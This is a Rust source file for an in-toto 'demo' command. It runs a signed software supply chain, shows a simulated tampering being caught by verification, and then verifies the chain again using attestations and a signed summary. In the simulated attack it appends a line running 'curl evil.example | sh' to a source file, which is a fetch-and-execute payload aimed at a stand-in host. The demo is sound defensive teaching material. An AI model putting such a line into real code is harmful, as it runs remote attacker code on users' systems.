//! `in-toto demo`: a whole supply chain, end to end, then a tampering caught.
//!
//! In a fresh directory it generates keys for a project owner and two
//! functionaries, writes and signs a layout (three steps, one of them with a
//! threshold of two, and an inspection), performs every step with our
//! `in-toto-run`, and verifies the result with `in-toto-verify`: that must
//! pass. Then it performs the chain again with an attacker who changes the
//! source between two steps and breaks one functionary's link, and verifies
//! again: that must fail, and the verifier explains why. Last, it performs
//! the chain once more with its evidence as in-toto attestations (link
//! v0.3 Statements from `in-toto-run --attestation`, next to one classic
//! link in the threshold step, and SLSA provenance from `in-toto attest
//! provenance`), verifies it under the same layout with a signed
//! verification summary (`--vsa`), and checks that summary with `in-toto
//! attest verify`. The demo exits 0 when every verdict is as expected.

use std::ffi::OsString;
use std::fs;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode, Stdio};

use clap::{Arg, ArgAction, Command as ClapCommand};
use intoto::files::{write_atomic, write_atomic_with_mode};
use intoto::metadata_io::write_metadata;
use intoto::model::{Inspection, Layout, Metadata, Payload, Step};
use intoto::time::SystemClock;
use intoto_crypto::{KeySpec, PrivateKey};

use crate::common::parse;

pub(crate) fn command() -> ClapCommand {
    ClapCommand::new("demo")
        .about("Run a whole supply chain end to end, verify it, then show a tampering being caught")
        .after_help("Example:\n  in-toto demo\n  in-toto demo --dir /tmp/intoto-demo --keep")
        .arg(
            Arg::new("dir").long("dir").value_name("DIR").help(
                "work in DIR (created; must be empty) instead of a fresh temporary directory",
            ),
        )
        .arg(
            Arg::new("keep")
                .long("keep")
                .action(ArgAction::SetTrue)
                .help("keep the temporary directory (DIR given with --dir is always kept)"),
        )
}

const WRITE_CODE: &[&str] = &[
    "sh",
    "-c",
    "mkdir -p src && printf 'print(\"hello, supply chain\")\\n' > src/hello.py",
];
const BUILD: &[&str] = &["sh", "-c", "mkdir -p build && cat src/*.py > build/app.py"];
const PACKAGE: &[&str] = &["tar", "-cf", "app.tar", "build"];

/// How the steps' evidence is recorded.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Evidence {
    /// Classic links (Metablocks) from `in-toto-run`.
    Links,
    /// In-toto attestations: link v0.3 Statements for write-code and bob's
    /// build (alice's stays a classic link), SLSA provenance for package.
    Attestations,
}

/// The summary `in-toto-verify --vsa` writes in the attestation act.
const VSA_FILE: &str = "app.tar.vsa.json";

pub(crate) fn main(prog: &str, args: Vec<OsString>) -> ExitCode {
    let m = match parse(command(), prog, args) {
        Ok(m) => m,
        Err(code) => return code,
    };
    let (dir, keep) = match m.get_one::<String>("dir") {
        Some(d) => (PathBuf::from(d), true),
        None => (
            std::env::temp_dir().join(format!("in-toto-demo-{}", std::process::id())),
            m.get_flag("keep"),
        ),
    };
    let result = Demo::new(&dir).and_then(|demo| demo.run());
    if !keep {
        let _ = fs::remove_dir_all(&dir);
    } else {
        println!("\nEverything is kept in {}", dir.display());
    }
    match result {
        Ok(true) => {
            println!(
                "\nThe demo behaved as expected: the honest chain verified, the attacked one was caught, \
                 and the chain recorded as attestations verified with a summary that checks out."
            );
            ExitCode::SUCCESS
        }
        Ok(false) => {
            eprintln!("{prog}: error: a verdict was not as expected (see above)");
            ExitCode::FAILURE
        }
        Err(e) => {
            eprintln!("{prog}: error: {e}");
            ExitCode::FAILURE
        }
    }
}

struct Demo {
    dir: PathBuf,
    exe: PathBuf,
}

fn say(msg: &str) {
    println!("\n==> {msg}");
}

impl Demo {
    fn new(dir: &Path) -> Result<Self, String> {
        if dir.exists()
            && fs::read_dir(dir)
                .map_err(|e| format!("{}: {e}", dir.display()))?
                .next()
                .is_some()
        {
            return Err(format!("{}: directory is not empty", dir.display()));
        }
        fs::create_dir_all(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
        let exe = std::env::current_exe().map_err(|e| format!("cannot find this program: {e}"))?;
        Ok(Self {
            dir: dir.to_path_buf(),
            exe,
        })
    }

    fn run(&self) -> Result<bool, String> {
        println!("in-toto demo in {}", self.dir.display());
        say("The project owner and two functionaries, alice and bob, make their keys");
        let keys = self.dir.join("keys");
        mkdir(&keys)?;
        let owner = make_key(&keys, "owner")?;
        let alice = make_key(&keys, "alice")?;
        let bob = make_key(&keys, "bob")?;

        say("The owner writes and signs the layout (root.layout)");
        let layout = self.layout(&alice, &bob)?;
        let mut md = Metadata::new_metablock(&Payload::Layout(layout));
        md.sign(&owner).map_err(|e| e.to_string())?;
        let layout_path = self.dir.join("root.layout");
        write_metadata(&layout_path, &md).map_err(|e| e.to_string())?;
        println!(
            "    steps: write-code (alice) -> build (alice AND bob, threshold 2) -> package (bob); \
             inspection: untar"
        );

        let bob_keyid = bob.public_key().keyid().as_str();
        say("An honest run of the supply chain");
        let honest = self.dir.join("honest");
        self.perform_chain(&honest, false, bob_keyid, Evidence::Links)?;
        let pass = self.verify(&honest)?;
        println!("    verdict: {}", if pass { "PASSED" } else { "FAILED" });

        say(
            "An attacked run: the source is changed behind alice's back after she wrote it, and bob's build link is edited",
        );
        let attacked = self.dir.join("attacked");
        self.perform_chain(&attacked, true, bob_keyid, Evidence::Links)?;
        let attacked_pass = self.verify(&attacked)?;
        println!(
            "    verdict: {}",
            if attacked_pass {
                "PASSED (the attack went unnoticed!)"
            } else {
                "FAILED: the tampering was caught"
            }
        );

        say(
            "The same chain with in-toto attestations as evidence (DSSE-signed Statements v1), verified by the same layout",
        );
        println!(
            "    write-code: link v0.3; build: alice's classic link and bob's link v0.3 (threshold 2); \
             package: SLSA provenance v1"
        );
        let attested = self.dir.join("attestations");
        self.perform_chain(&attested, false, bob_keyid, Evidence::Attestations)?;
        let attested_pass = self.verify_with_summary(&attested)?;
        println!(
            "    verdict: {}",
            if attested_pass {
                "PASSED, and the signed verification summary checks out"
            } else {
                "FAILED"
            }
        );
        Ok(pass && !attacked_pass && attested_pass)
    }

    fn layout(&self, alice: &PrivateKey, bob: &PrivateKey) -> Result<Layout, String> {
        let err = |e: intoto::model::ModelError| e.to_string();
        let mut layout = Layout::new(&SystemClock);
        layout.set_relative_expiration(&SystemClock, 0, 1, 0);
        layout.readme = "in-toto demo: write, build (two functionaries must agree), package".into();
        let a = layout.add_functionary_key(alice.public_key().clone());
        let b = layout.add_functionary_key(bob.public_key().clone());

        let mut write = Step::new("write-code");
        write.add_pubkey(&a);
        write.expected_command = strings(WRITE_CODE);
        write
            .add_product_rule_from_str("CREATE src/hello.py")
            .map_err(err)?;
        write.add_product_rule_from_str("DISALLOW *").map_err(err)?;

        let mut build = Step::new("build");
        build.add_pubkey(&a).add_pubkey(&b).set_threshold(2);
        build.expected_command = strings(BUILD);
        build
            .add_material_rule_from_str("MATCH src/* WITH PRODUCTS FROM write-code")
            .map_err(err)?;
        build
            .add_material_rule_from_str("DISALLOW *")
            .map_err(err)?;
        build
            .add_product_rule_from_str("CREATE build/app.py")
            .map_err(err)?;
        build.add_product_rule_from_str("DISALLOW *").map_err(err)?;

        let mut package = Step::new("package");
        package.add_pubkey(&b);
        package.expected_command = strings(PACKAGE);
        package
            .add_material_rule_from_str("MATCH build/* WITH PRODUCTS FROM build")
            .map_err(err)?;
        package
            .add_material_rule_from_str("DISALLOW *")
            .map_err(err)?;
        package
            .add_product_rule_from_str("CREATE app.tar")
            .map_err(err)?;
        package
            .add_product_rule_from_str("DISALLOW *")
            .map_err(err)?;

        let mut untar = Inspection::new("untar");
        untar.set_run_from_str("tar -xf app.tar").map_err(err)?;
        for r in [
            "MATCH app.tar WITH PRODUCTS FROM package",
            "DISALLOW app.tar",
            "ALLOW *",
        ] {
            untar.add_material_rule_from_str(r).map_err(err)?;
        }
        for r in [
            "MATCH build/app.py WITH PRODUCTS FROM build",
            "DISALLOW build/*",
            "ALLOW *",
        ] {
            untar.add_product_rule_from_str(r).map_err(err)?;
        }
        layout.steps = vec![write, build, package];
        layout.inspect = vec![untar];
        Ok(layout)
    }

    /// Performs the three steps in `work/`, then sets up `final/` as the
    /// client receives it: the package, the layout, the owner's public key
    /// and the links.
    fn perform_chain(
        &self,
        base: &Path,
        attack: bool,
        bob_keyid: &str,
        evidence: Evidence,
    ) -> Result<(), String> {
        let attest = evidence == Evidence::Attestations;
        let work = base.join("work");
        let links = base.join("final/links");
        mkdir(&work)?;
        mkdir(&links)?;
        let key = |name: &str| self.dir.join("keys").join(name).display().to_string();
        let links_arg = links.display().to_string();
        let alice_key = key("alice");
        let mut args = vec![
            "-n",
            "write-code",
            "--signing-key",
            &alice_key,
            "-p",
            "src",
            "-d",
            &links_arg,
        ];
        if attest {
            args.push("--attestation");
        }
        args.push("--");
        self.tool("in-toto-run", &work, &args, WRITE_CODE)?;
        if attack {
            println!("    (attacker) appending a line to src/hello.py");
            let path = work.join("src/hello.py");
            let mut text =
                fs::read_to_string(&path).map_err(|e| format!("{}: {e}", path.display()))?;
            text.push_str("import os; os.system('curl evil.example | sh')\n");
            write_atomic(&path, text.as_bytes()).map_err(|e| e.to_string())?;
        }
        for who in ["alice", "bob"] {
            let who_key = key(who);
            let mut args = vec![
                "-n",
                "build",
                "--signing-key",
                &who_key,
                "-m",
                "src",
                "-p",
                "build",
                "-d",
                &links_arg,
            ];
            if attest && who == "bob" {
                args.push("--attestation");
            }
            args.push("--");
            self.tool("in-toto-run", &work, &args, BUILD)?;
        }
        let bob_key = key("bob");
        let package_args = [
            "-n",
            "package",
            "--signing-key",
            &bob_key,
            "-m",
            "build",
            "-p",
            "app.tar",
            "-d",
            &links_arg,
            "--",
        ];
        if attest {
            let mut args = vec![
                "attest",
                "provenance",
                "--builder-id",
                "https://in-toto.io/demo/builder",
            ];
            args.extend(package_args);
            self.tool("in-toto", &work, &args, PACKAGE)?;
        } else {
            self.tool("in-toto-run", &work, &package_args, PACKAGE)?;
        }
        if attack {
            let victim = links.join(intoto::model::Link::file_name("build", bob_keyid));
            println!(
                "    (attacker) changing the recorded return value in bob's {}",
                victim.file_name().unwrap_or_default().to_string_lossy()
            );
            let text =
                fs::read_to_string(&victim).map_err(|e| format!("{}: {e}", victim.display()))?;
            let edited = text.replacen("\"return-value\": 0", "\"return-value\": 1", 1);
            write_atomic(&victim, edited.as_bytes()).map_err(|e| e.to_string())?;
        }
        let fin = base.join("final");
        copy(&work.join("app.tar"), &fin.join("app.tar"))?;
        copy(&self.dir.join("root.layout"), &fin.join("root.layout"))?;
        copy(&self.dir.join("keys/owner.pub"), &fin.join("owner.pub"))?;
        Ok(())
    }

    fn verify(&self, base: &Path) -> Result<bool, String> {
        let fin = base.join("final");
        let status = self.tool_status(
            "in-toto-verify",
            &fin,
            &[
                "-l",
                "root.layout",
                "--verification-keys",
                "owner.pub",
                "--link-dir",
                "links",
            ],
            &[],
        )?;
        Ok(status == Some(0))
    }

    /// Verifies `base/final` writing a verification summary signed by the
    /// owner, then checks that summary as a client would: signed by the
    /// owner, a VSA, and about the package in hand.
    fn verify_with_summary(&self, base: &Path) -> Result<bool, String> {
        let fin = base.join("final");
        let owner = self.dir.join("keys/owner").display().to_string();
        let status = self.tool_status(
            "in-toto-verify",
            &fin,
            &[
                "-l",
                "root.layout",
                "--verification-keys",
                "owner.pub",
                "--link-dir",
                "links",
                "--vsa",
                VSA_FILE,
                "--vsa-signing-key",
                &owner,
            ],
            &[],
        )?;
        if status != Some(0) {
            return Ok(false);
        }
        let status = self.tool_status(
            "in-toto",
            &fin,
            &[
                "attest",
                "verify",
                VSA_FILE,
                "--key",
                "owner.pub",
                "--type",
                "https://slsa.dev/verification_summary/v1",
                "-s",
                "app.tar",
            ],
            &[],
        )?;
        Ok(status == Some(0))
    }

    fn tool(&self, tool: &str, cwd: &Path, args: &[&str], cmd: &[&str]) -> Result<(), String> {
        match self.tool_status(tool, cwd, args, cmd)? {
            Some(0) => Ok(()),
            other => Err(format!("{tool} failed with exit status {other:?}")),
        }
    }

    fn tool_status(
        &self,
        tool: &str,
        cwd: &Path,
        args: &[&str],
        cmd: &[&str],
    ) -> Result<Option<i32>, String> {
        let shown: Vec<String> = args
            .iter()
            .chain(cmd)
            .map(|a| {
                let a = a.replace(&*self.dir.to_string_lossy(), "$DEMO");
                if a.contains([' ', '\'', '"', '*', '(', '>', '&', ';']) {
                    format!("'{}'", a.replace('\'', "'\\''"))
                } else {
                    a
                }
            })
            .collect();
        println!("    $ {tool} {}", shown.join(" "));
        let output = Command::new(&self.exe)
            .arg0(tool)
            .args(args)
            .args(cmd)
            .current_dir(cwd)
            .stdin(Stdio::null())
            .output()
            .map_err(|e| format!("cannot run {tool}: {e}"))?;
        for line in String::from_utf8_lossy(&output.stdout)
            .lines()
            .chain(String::from_utf8_lossy(&output.stderr).lines())
        {
            println!("      | {line}");
        }
        Ok(output.status.code())
    }
}

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| (*s).to_owned()).collect()
}

fn mkdir(dir: &Path) -> Result<(), String> {
    fs::create_dir_all(dir).map_err(|e| format!("{}: {e}", dir.display()))
}

fn copy(from: &Path, to: &Path) -> Result<(), String> {
    fs::copy(from, to)
        .map(|_| ())
        .map_err(|e| format!("copying {} to {}: {e}", from.display(), to.display()))
}

fn make_key(dir: &Path, name: &str) -> Result<PrivateKey, String> {
    let key = PrivateKey::generate(KeySpec::Ed25519).map_err(|e| e.to_string())?;
    let pem = key.to_pkcs8_pem(None).map_err(|e| e.to_string())?;
    let public = key.public_key().to_pem().map_err(|e| e.to_string())?;
    write_atomic_with_mode(&dir.join(name), pem.as_bytes(), Some(0o600))
        .map_err(|e| e.to_string())?;
    write_atomic(&dir.join(format!("{name}.pub")), public.as_bytes()).map_err(|e| e.to_string())?;
    println!("    {name:<6} keyid {}", key.public_key().keyid());
    Ok(key)
}
